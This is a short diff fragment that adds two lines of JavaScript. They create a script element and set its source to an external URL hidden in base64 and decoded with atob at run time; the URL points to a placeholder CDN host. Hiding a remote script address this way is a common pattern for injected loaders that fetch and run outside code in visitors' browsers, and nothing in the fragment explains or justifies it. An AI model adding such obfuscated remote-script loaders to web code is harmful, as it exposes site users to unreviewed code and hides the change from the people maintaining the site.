@@ -1,0 +1,2 @@
+const s = document.createElement("script");
+s.src = atob("aHR0cHM6Ly9jZG4uZXhhbXBsZS9hLmpz");
